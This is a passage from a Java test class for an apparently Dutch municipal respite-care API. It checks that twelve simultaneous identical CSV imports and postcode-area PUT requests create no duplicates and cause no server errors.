        List<Api.Res> answers = Parallel.run(12, () -> api.send(BEHEERDER_A, "POST", BASE_A + "/importen",
                "text/csv", csv));
        Parallel.assertNoServerError(answers, 200);
        int created = 0;
        for (Api.Res r : answers) {
            JsonNode report = r.json();
            assertEquals(r.toString(), 0, report.path("afgewezen").asInt());
            created += report.path("aangemaakt").asInt();
        }
        assertEquals(2, created);
        assertEquals(2, count("select count(*) from respite_offering where external_id like 'par-" + run + "-%'"));
    }

    /** Issue 16 item 7: twelve identical {@code PUT /postcodegebieden/{new}} at once make one area, no 500. */
    @Test
    public void twelveIdenticalNewAreasAtOnceMakeOne() throws Exception {
        List<Api.Res> answers = Parallel.run(12, () -> api.json(BEHEERDER_A, "PUT",
                "/gemeenten/GM0363/postcodegebieden/1017", "{\"naam\":\"Grachtengordel\",\"lat\":52.36,"
                        + "\"lon\":4.89}"));
        Parallel.assertNoServerError(answers, 200, 201);
        assertEquals(1, answers.stream().filter(r -> r.status() == 201).count());
        assertEquals(1, count("select count(*) from respite_area where tenant = 'GM0363' and postcode = '1017'"));
    }

    private long count(String sql) throws java.sql.SQLException {
        try (java.sql.Connection c = dataSource.getConnection(); java.sql.Statement s = c.createStatement();
             java.sql.ResultSet rs = s.executeQuery(sql)) {
            rs.next();
            return rs.getLong(1);
        }
    }

}
